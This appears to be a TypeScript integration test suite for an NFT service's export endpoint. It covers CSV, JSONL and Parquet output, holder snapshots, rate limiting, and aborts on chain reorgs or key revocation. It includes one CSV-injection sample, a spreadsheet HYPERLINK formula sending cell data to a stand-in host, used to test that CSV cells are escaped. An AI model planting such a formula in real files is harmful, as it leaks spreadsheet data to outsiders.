/**
 * Exports over HTTP, against a real chain: equal to the walk in every format, true at one block of the past, holders as
 * the contract names them, broken off when the block is lost, one at a time per key.
 */
import { afterAll, beforeAll, expect, spyOn, test } from "bun:test";
import { createHash } from "node:crypto";
import net from "node:net";
import { parquetMetadata, parquetReadObjects } from "hyparquet";
import { type Anvil, reorg, startAnvil } from "../../../scripts/local-chain/anvil.ts";
import { contractArtifact } from "../../../scripts/local-chain/compile.ts";
import { type Deployed, deploy, transact } from "../../../scripts/local-chain/contracts.ts";
import { type Clock, systemClock } from "../../../src/core/clock.ts";
import { Question } from "../../../src/operators/questions.ts";
import {
  eventually,
  startTestService,
  synced,
  TEST_KEY,
  type TestService,
  temporaryLogUrl,
  walkListing,
} from "../../support/service.ts";

const OPERATOR = "operator-key-0123456789";

const FORMULA = '=HYPERLINK("https://evil.example/?"&A1,"free mint")';
const BIG_ID = 2n ** 255n + 7n;

let anvil: Anvil;
let service: TestService;
let stories: Deployed;
let multi: Deployed;
let large: Deployed;
/** A block after which tokens moved. */
let past: number;

beforeAll(async () => {
  anvil = await startAnvil();
  stories = await deploy(anvil, await contractArtifact("StoryNft"), ["Stories", "STO"]);
  multi = await deploy(anvil, await contractArtifact("MultiToken"), ["Multi", "MUL", ""]);
  large = await deploy(anvil, await contractArtifact("BatchNft"), ["Large", "LRG"]);
  const document = (text: string) => `data:application/json,${encodeURIComponent(text)}`;
  const uris = [document('{"name":"One, \\"quoted\\""}'), FORMULA, document('"+1+2"'), document('{"name":"Ünïcode"}')];
  await transact(anvil, stories.contract, "mintStories", [anvil.accounts[0], 1n, uris]);
  await transact(anvil, stories.contract, "mintMany", [anvil.accounts[1], 10n, 3n]);
  await transact(anvil, stories.contract, "mintMany", [anvil.accounts[2], BIG_ID, 1n]);
  await transact(anvil, multi.contract, "mint", [anvil.accounts[0], 1n, 10n ** 30n]);
  await transact(anvil, multi.contract, "mint", [anvil.accounts[1], 1n, 5n]);
  await transact(anvil, multi.contract, "mint", [anvil.accounts[1], 2n, 5n]);
  for (let at = 0; at < 40; at++) await transact(anvil, large.contract, "mint", [anvil.accounts[at % 3], 500n]);
  past = Number(await anvil.send("eth_blockNumber"));
  const [from, to] = [anvil.accounts[0] as string, anvil.accounts[3] as string];
  await transact(anvil, stories.contract, "transferFrom", [from, to, 1n], { from });
  await transact(anvil, multi.contract, "burn", [anvil.accounts[1], 2n, 5n]);
  await anvil.mine(4);
  service = await startTestService({
    rpcUrl: anvil.url,
    logUrl: temporaryLogUrl(),
    env: { FINALITY_DEPTH_ETH: "2", OPERATOR_KEYS: OPERATOR },
  });
  const head = Number(await anvil.send("eth_blockNumber"));
  for (const { address } of [stories, multi, large]) await synced(service, address, head);
  await eventually("metadata is known", async () => {
    const { body } = await service.get(`/api/v2/nft/${stories.address}`);
    return body.result.filter(({ metadata }: { metadata: string | null }) => metadata !== null).length >= 2
      ? true
      : undefined;
  });
});
afterAll(async () => {
  await service?.stop();
  await anvil?.stop();
});

const file = (nft: Deployed, query: string, init?: RequestInit) =>
  service.fetch(`/api/collections/eth/${nft.address}/export?${query}`, init);

test("ends its question with the file, so that its key pays for it", async () => {
  const ended = spyOn(Question.prototype, "end");
  try {
    const response = await file(large, "format=csv");
    expect(ended).toHaveBeenCalledTimes(0);
    await response.text();
    expect(ended).toHaveBeenCalledTimes(1);
    expect((await file(large, "format=csv", { method: "HEAD" })).status).toBe(200);
    expect(ended).toHaveBeenCalledTimes(2);
  } finally {
    ended.mockRestore();
  }
});

// biome-ignore lint/suspicious/noExplicitAny: tests read single fields of rows
type Json = any;

const COLUMNS = [
  ...["token_id", "contract_type", "owner_of", "amount", "block_number", "block_number_minted", "minter_address"],
  ...["token_uri", "metadata", "last_token_uri_sync", "last_metadata_sync"],
];

/** The listing's records as rows of an export. */
async function walked(nft: Deployed, block: string): Promise<Json[]> {
  const records = await walkListing(service, nft.address, `limit=100&as_of_block=${block}`);
  return records.map((record) => ({
    ...Object.fromEntries(COLUMNS.map((name) => [name, record[name]])),
    owner_of: record.owner_of === "" ? null : record.owner_of,
    block_number: Number(record.block_number),
    block_number_minted: Number(record.block_number_minted),
    minter_address: record.contract_type === "ERC1155" ? null : record.minter_address,
  }));
}

/** Rows of a CSV file by RFC 4180. */
function parseCsv(text: string): Record<string, string>[] {
  const rows: string[][] = [[""]];
  let isQuoted = false;
  for (let at = 0; at < text.length; at++) {
    const row = rows.at(-1) as string[];
    const last = row.length - 1;
    const [character, next] = [text[at] as string, text[at + 1]];
    if (isQuoted && character === '"' && next === '"') row[last] = `${row[last]}${text[at++]}`;
    else if (character === '"') isQuoted = !isQuoted;
    else if (!isQuoted && character === ",") row.push("");
    else if (!isQuoted && character === "\r" && next === "\n") {
      rows.push([""]);
      at++;
    } else row[last] = `${row[last]}${character}`;
  }
  const [head = [], ...body] = rows.slice(0, -1);
  return body.map((row) => Object.fromEntries(head.map((name, at) => [name, row[at] as string])));
}

const bufferOf = async (response: Response) => response.arrayBuffer();

const plain = (row: Json): Json =>
  Object.fromEntries(
    Object.entries<Json>(row).map(([name, cell]) => {
      if (typeof cell === "bigint") return [name, Number(cell)];
      return [name, cell instanceof Date ? cell.toISOString() : (cell ?? null)];
    }),
  );

for (const name of ["stories", "multi", "large"] as const) {
  test(`equals the walk of the listing in every format: ${name}`, async () => {
    const nft = { stories, multi, large }[name];
    const lines = await file(nft, "format=jsonl");
    const block = lines.headers.get("x-as-of-block") as string;
    const expected = await walked(nft, block);
    expect(expected.length).toBe({ stories: 8, multi: 1, large: 20_000 }[name]);
    const rows = (await lines.text())
      .trimEnd()
      .split("\n")
      .map((line) => JSON.parse(line));
    expect(rows).toEqual(expected);
    expect(Object.keys(rows[0])).toEqual(COLUMNS);

    const parquet = await file(nft, `format=parquet&as_of_block=${block}`);
    const buffer = await bufferOf(parquet);
    expect((await parquetReadObjects({ file: buffer })).map(plain)).toEqual(expected);

    const csv = parseCsv(await (await file(nft, `format=csv&as_of_block=${block}`)).text());
    const text = (cell: Json) => (cell === null ? "" : /^[=+@-]/.test(String(cell)) ? `'${cell}` : String(cell));
    const asText = (row: Json) => Object.fromEntries(Object.entries(row).map(([key, cell]) => [key, text(cell)]));
    expect(csv).toEqual(expected.map(asText));
  });
}

test("names the newest final block with hash and time in headers and in Parquet's metadata", async () => {
  const response = await file(stories, "format=parquet");
  const facts = ["x-as-of-block", "x-as-of-hash", "x-as-of-time", "x-finality"].map((name) =>
    response.headers.get(name),
  );
  const head = Number(await anvil.send("eth_blockNumber"));
  const block = (await anvil.send("eth_getBlockByNumber", [`0x${(head - 2).toString(16)}`, false])) as Json;
  const time = new Date(Number(block.timestamp) * 1_000).toISOString();
  expect(facts).toEqual([String(head - 2), block.hash, time, "finalized"]);
  expect(response.headers.get("content-type")).toBe("application/vnd.apache.parquet");
  expect(response.headers.get("content-disposition")).toContain(`${stories.address.toLowerCase()}-${head - 2}.parquet`);
  const { key_value_metadata: pairs = [] } = parquetMetadata(await bufferOf(response));
  const { body: details } = await service.get(`/api/collections/eth/${stories.address}`);
  expect(Object.fromEntries(pairs.map(({ key, value }) => [key, value]))).toEqual({
    chain: "eth",
    address: stories.address.toLowerCase(),
    block: String(head - 2),
    block_hash: block.hash,
    block_time: time,
    finality: "finalized",
    metadata_resolved: String(details.metadata.resolved),
    metadata_failed: String(details.metadata.failed),
    metadata_left: "0",
  });
  expect(details.metadata.resolved).toBeGreaterThan(0);
});

test("escapes cells that a spreadsheet would run as a formula, in CSV only", async () => {
  const csv = parseCsv(await (await file(stories, "format=csv")).text());
  expect(csv.find((row) => row["token_id"] === "2")?.["token_uri"]).toBe(`'${FORMULA}`);
  const lines = (await (await file(stories, "format=jsonl")).text()).split("\n").filter(Boolean);
  expect(lines.map((line) => JSON.parse(line)).find((row) => row.token_id === "2").token_uri).toBe(FORMULA);
});

test("lists holders as the contract had them at a block of the past", async () => {
  const rows = async (nft: Deployed) =>
    (await (await file(nft, `format=jsonl&holders=true&as_of_block=${past}`)).text())
      .trimEnd()
      .split("\n")
      .map((line) => JSON.parse(line));
  const held = await rows(stories);
  for (const { owner, tokens, units } of held) {
    const balance = await stories.contract.getFunction("balanceOf").staticCall(owner, { blockTag: past });
    expect([tokens, units]).toEqual([Number(balance), String(balance)]);
  }
  expect(held.map(({ rank, tokens, share }) => [rank, tokens, share])).toEqual([
    [1, 4, 0.5],
    [2, 3, 0.375],
    [3, 1, 0.125],
  ]);
  const amounts = await rows(multi);
  expect(amounts.map(({ rank, tokens, units }) => [rank, tokens, units])).toEqual([
    [1, 1, String(10n ** 30n)],
    [2, 2, "10"],
  ]);
  const parquet = await bufferOf(await file(large, `format=parquet&holders=true&as_of_block=${past}`));
  expect((await parquetReadObjects({ file: parquet })).map(plain)).toEqual(await rows(large));
  expect((await rows(large)).reduce((sum, { share }) => sum + share, 0)).toBeCloseTo(1, 9);
});

test("refuses bad parameters and unknown collections with words", async () => {
  const refusal = async (query: string, address = stories.address) => {
    const { status, body } = await service.get(`/api/collections/eth/${address}/export?${query}`);
    return [status, body.code, body.details?.parameter];
  };
  expect(await refusal("format=xls")).toEqual([400, "invalid_parameter", "format"]);
  expect(await refusal("holders=perhaps")).toEqual([400, "invalid_parameter", "holders"]);
  expect(await refusal("as_of_block=99999999")).toEqual([400, "invalid_parameter", "as_of_block"]);
  expect(await refusal("", `0x${"12".repeat(20)}`)).toEqual([404, "not_found", undefined]);
  const head = await file(stories, "format=csv", { method: "HEAD" });
  // The length is not known before the file is made.
  expect(head.headers.get("content-length")).toBeNull();
  expect([head.status, head.headers.get("x-finality"), await head.text()]).toEqual([200, "finalized", ""]);
  const whole = await file(stories, "");
  expect(whole.headers.get("content-type")).toContain("text/csv");
  // To its end, so that the key's next export may begin.
  await whole.text();
});

/** Opens an export on a bare socket, and stops reading after the first bytes. */
async function stalled(nft: Deployed, query: string, key = TEST_KEY, port = service.port) {
  const socket = net.connect(port, "127.0.0.1");
  const chunks: Buffer[] = [];
  const ended = new Promise<void>((resolve) => socket.once("close", () => resolve()));
  socket.on("error", () => undefined);
  const path = `/api/collections/eth/${nft.address}/export?${query}`;
  socket.write(`GET ${path} HTTP/1.1\r\nhost: localhost\r\nx-api-key: ${key}\r\n\r\n`);
  await new Promise<void>((resolve) =>
    socket.once("data", (data) => {
      chunks.push(data);
      socket.pause();
      resolve();
    }),
  );
  socket.on("data", (data) => chunks.push(data));
  socket.pause();
  return { socket, ended, text: () => Buffer.concat(chunks).toString("latin1") };
}

test("runs one export of a key at a time, and a client that leaves ends its own", async () => {
  const slow = await stalled(large, "format=jsonl");
  const second = await file(large, "format=csv");
  expect([second.status, second.headers.get("retry-after"), await second.json()]).toMatchObject([
    429,
    "5",
    { code: "rate_limited", message: expect.stringContaining("close its connection") },
  ]);
  slow.socket.destroy();
  const next = await eventually("the next export begins", async () => {
    const response = await file(large, "format=csv");
    return response.status === 200 ? response : undefined;
  });
  const digest = createHash("sha256")
    .update(await next.text())
    .digest("hex");
  // Other requests are answered while a client stalls, and a slow client gets the whole file.
  const patient = await stalled(large, "format=csv");
  expect((await service.get(`/api/v2/nft/${stories.address}`)).status).toBe(200);
  patient.socket.resume();
  await eventually("the slow client has the file", async () =>
    patient.text().endsWith("0\r\n\r\n") ? true : undefined,
  );
  const body = patient.text().slice(patient.text().indexOf("\r\n\r\n") + 4);
  expect(createHash("sha256").update(unchunked(body)).digest("hex")).toBe(digest);
  patient.socket.destroy();
});

test("breaks off an export that is not read when another one of the key begins, a minute later", async () => {
  let aheadMs = 0;
  const clock: Clock = { ...systemClock, monotonic: () => systemClock.monotonic() + aheadMs };
  const env = { FINALITY_DEPTH_ETH: "2" };
  const own = await startTestService({ rpcUrl: anvil.url, logUrl: temporaryLogUrl(), env, clock });
  const ended = spyOn(Question.prototype, "end");
  try {
    await synced(own, large.address, Number(await anvil.send("eth_blockNumber")));
    const slow = await stalled(large, "format=jsonl", TEST_KEY, own.port);
    ended.mockClear();
    aheadMs = 61_000;
    const path = `/api/collections/eth/${large.address}/export?format=csv`;
    const next = await stalled(large, "format=csv", TEST_KEY, own.port);
    expect(ended).toHaveBeenCalledTimes(1);
    expect((await own.fetch(path)).status).toBe(429);
    slow.socket.resume();
    await slow.ended;
    expect(slow.text().endsWith("0\r\n\r\n")).toBe(false);
    next.socket.resume();
    await eventually("the other one is whole", async () => (next.text().endsWith("0\r\n\r\n") ? true : undefined));
    next.socket.destroy();
  } finally {
    ended.mockRestore();
    await own.stop();
  }
});

function unchunked(body: string): string {
  let text = "";
  for (let at = 0; ; ) {
    const end = body.indexOf("\r\n", at);
    const length = Number.parseInt(body.slice(at, end), 16);
    if (length === 0) return text;
    text += body.slice(end + 2, end + 2 + length);
    at = end + 2 + length + 2;
  }
}

test("breaks the connection when its block leaves the chain", async () => {
  // Blocks above the final one can be lost.
  await transact(anvil, large.contract, "mint", [anvil.accounts[1], 500n]);
  const head = Number(await anvil.send("eth_blockNumber"));
  await synced(service, large.address, head);
  const slow = await stalled(large, `format=jsonl&as_of_block=${head}`);
  await reorg(anvil, 1);
  await anvil.mine(1);
  const { hash } = (await anvil.send("eth_getBlockByNumber", [`0x${head.toString(16)}`, false])) as { hash: string };
  await eventually("the service has followed the reorg", async () => {
    const { headers } = await service.get(`/api/v2/nft/${large.address}?limit=1&as_of_block=${head}`);
    return headers.get("x-as-of-hash") === hash ? true : undefined;
  });
  slow.socket.resume();
  await slow.ended;
  expect(slow.text()).toContain("HTTP/1.1 200");
  expect(slow.text()).toContain(`x-as-of-block: ${head}`);
  expect(slow.text().endsWith("0\r\n\r\n")).toBe(false);
});

test("breaks the connection once its key is revoked", async () => {
  const operate = (path: string, init: RequestInit) =>
    service.fetch(path, { ...init, headers: { "x-api-key": OPERATOR } });
  const added = await operate("/api/keys", { method: "POST", body: JSON.stringify({ name: "exporter" }) });
  const { key } = (await added.json()) as { key: string };
  const slow = await stalled(large, "format=jsonl", key);
  expect((await operate("/api/keys/exporter", { method: "DELETE" })).status).toBe(200);
  slow.socket.resume();
  await slow.ended;
  expect(slow.text()).toContain("HTTP/1.1 200");
  expect(slow.text().endsWith("0\r\n\r\n")).toBe(false);
});
